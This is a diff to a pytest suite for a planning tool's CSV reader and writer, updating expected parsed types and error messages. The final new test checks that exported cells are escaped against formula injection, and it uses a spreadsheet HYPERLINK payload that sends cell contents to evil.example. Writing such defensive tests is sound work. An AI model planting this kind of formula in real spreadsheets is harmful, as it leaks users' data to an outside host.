@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from datetime import date
 from pathlib import Path
 
 import pytest
@@ -37,9 +38,9 @@ def test_comma_separated_english() -> None:
         b'Key,Title,Effort,Depends on,Tags,score:impact\nA,First,2.5,,x,4\nB,Second,1,A,"p, q",\n'
     )
     assert rows_of(data) == [
-        {"key": "A", "title": "First", "effort": "2.5", "depends_on": None, "tags": ["x"],
-         "score:impact": "4"},
-        {"key": "B", "title": "Second", "effort": "1", "depends_on": ["A"], "tags": ["p", "q"],
+        {"key": "A", "title": "First", "effort": 2.5, "depends_on": None, "tags": ["x"],
+         "score:impact": 4.0},
+        {"key": "B", "title": "Second", "effort": 1.0, "depends_on": ["A"], "tags": ["p", "q"],
          "score:impact": None},
     ]  # fmt: skip
 
@@ -51,10 +52,10 @@ def test_finnish_semicolons_decimal_commas_bom_and_crlf() -> None:
         'B;Toinen;1 000,25;valmis;"A; B2";2028-01-15;ei;\r\n'
     )
     assert rows_of("\ufeff".encode() + text.encode()) == [
-        {"key": "A", "title": "Ensimmäinen", "effort": "2.5", "status": "in_progress",
-         "depends_on": None, "deadline": "2027-12-31", "mandatory": "true", "impact": "3"},
-        {"key": "B", "title": "Toinen", "effort": "1000.25", "status": "done",
-         "depends_on": ["A", "B2"], "deadline": "2028-01-15", "mandatory": "false",
+        {"key": "A", "title": "Ensimmäinen", "effort": 2.5, "status": "in_progress",
+         "depends_on": None, "deadline": date(2027, 12, 31), "mandatory": "true", "impact": 3.0},
+        {"key": "B", "title": "Toinen", "effort": 1000.25, "status": "done",
+         "depends_on": ["A", "B2"], "deadline": date(2028, 1, 15), "mandatory": "false",
          "impact": None},
     ]  # fmt: skip
 
@@ -67,7 +68,7 @@ def test_swedish_headers_in_windows_1252() -> None:
     sheet = read_items_csv(text.encode("cp1252"), name="items.csv")
     assert sheet.warnings == ["items.csv: not UTF-8; read as Windows-1252 text"]
     assert rows_of(text.encode("cp1252")) == [
-        {"key": "A", "title": "Översikt", "effort": "0.5", "status": "in_progress",
+        {"key": "A", "title": "Översikt", "effort": 0.5, "status": "in_progress",
          "depends_on": None, "tags": ["data"], "organisation": "LAHTI"},
     ]  # fmt: skip
 
@@ -78,7 +79,7 @@ def test_utf8_without_bom_and_tab_delimiter() -> None:
 
 def test_scores_by_prefix_or_criterion_key() -> None:
     data = b"key,title,Pisteet:Impact,COST\nA,a,3,2\n"
-    assert rows_of(data) == [{"key": "A", "title": "a", "score:impact": "3", "score:cost": "2"}]
+    assert rows_of(data) == [{"key": "A", "title": "a", "score:impact": 3.0, "score:cost": 2.0}]
 
 
 def test_map_names_columns_and_skips_others() -> None:
@@ -87,7 +88,7 @@ def test_map_names_columns_and_skips_others() -> None:
     sheet = read_items_csv(data, name="items.csv", mapping=mapping)
     assert sheet.warnings == []
     assert sheet.rows[0].values == {"key": "A", "title": "a", "team": "DATA"}
-    assert sheet.rows[0].scores == {"impact": "5"}
+    assert sheet.rows[0].scores == {"impact": 5.0}
 
 
 def test_bad_map_is_refused() -> None:
@@ -114,11 +115,12 @@ def test_header_problems() -> None:
 
 def test_cell_problems_name_line_and_column() -> None:
     data = b'key,title,description,effort\nA,a,"two\nlines",1\nB,b,,inf\nC,c,,1,extra\n'
+    sheet = read_items_csv(data, name="items.csv")
     with pytest.raises(PlanFileError) as caught:
-        read_items_csv(data, name="items.csv")
+        merge_items(rich_plan().model_copy(update={"items": [], "milestones": []}), sheet)
     assert caught.value.messages == [
-        "items.csv:4: column 'effort': inf is not a number a plan can hold",
-        "items.csv:5: the row has more cells than the header has columns",
+        "items.csv:4 (B): column 'effort': 'inf' is not a number",
+        "items.csv:5 (C): the row has more cells than the header has columns",
     ]
 
 
@@ -134,18 +136,20 @@ def test_merge_validates_rows_and_the_plan() -> None:
     with pytest.raises(PlanFileError) as caught:
         merge_items(doc, sheet)
     assert caught.value.messages == [
-        "items.csv:2 (NEW): column 'Työmäärä': Input should be a valid number, "
-        "unable to parse string as a number",
-        "items.csv:3 (NEW2): column 'score:impact': Input should be a valid number, "
-        "unable to parse string as a number",
-        "items.csv:4: key 'NEW' is also on line 2",
+        "items.csv:2 (NEW): column 'Työmäärä': 'paljon' is not a number",
+        "items.csv:3 (NEW2): column 'score:impact': 'x' is not a number",
+        "items.csv:3 (NEW2): column 'Riippuvuudet': unknown item 'NOPE'",
+        "items.csv:4 (NEW): key 'NEW' is also on line 2",
     ]
     sheet = read_items_csv(
         b"key;title;depends_on\nNEW2;Toinen;NOPE\nZ-1;;B-4\n", name="items.csv", criteria=CRITERIA
     )
     with pytest.raises(PlanFileError) as caught:
         merge_items(doc, sheet)
-    assert caught.value.messages == ["items.csv:3 (Z-1): column 'title': required, but missing"]
+    assert caught.value.messages == [
+        "items.csv:2 (NEW2): column 'depends_on': unknown item 'NOPE'",
+        "items.csv:3 (Z-1): column 'title': required, but missing",
+    ]
 
 
 def test_merge_reports_references_and_cycles_by_row() -> None:
@@ -286,3 +290,25 @@ def test_cli_csv_needs_an_existing_plan(db: Path, tmp_path: Path) -> None:
     result = run(db, "import", str(path), "--plan", "nope")
     assert result.exit_code == 1
     assert "no plan 'nope'" in result.stderr and "--new-plan" in result.stderr
+
+
+def test_written_csv_never_holds_a_formula_and_reads_back_exactly() -> None:
+    doc = rich_plan()
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "@SUM(A1)", "'=kept"]
+    items = [
+        item.model_copy(update={"title": text, "description": "\tdesc " + text})
+        for item, text in zip(doc.items, texts, strict=True)
+    ]
+    items[0] = items[0].model_copy(update={"tags": ["-x", "b"]})
+    doc = doc.model_copy(update={"items": items})
+    data = write_items_csv(doc)
+    import csv
+    import io
+
+    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
+    assert "''=kept" in cells
+    sheet = read_items_csv(data, name="items.csv", criteria=CRITERIA)
+    merged, _ = merge_items(doc.model_copy(update={"items": []}), sheet)
+    assert merged.items == [item.model_copy(update={"i18n": {}}) for item in doc.items]
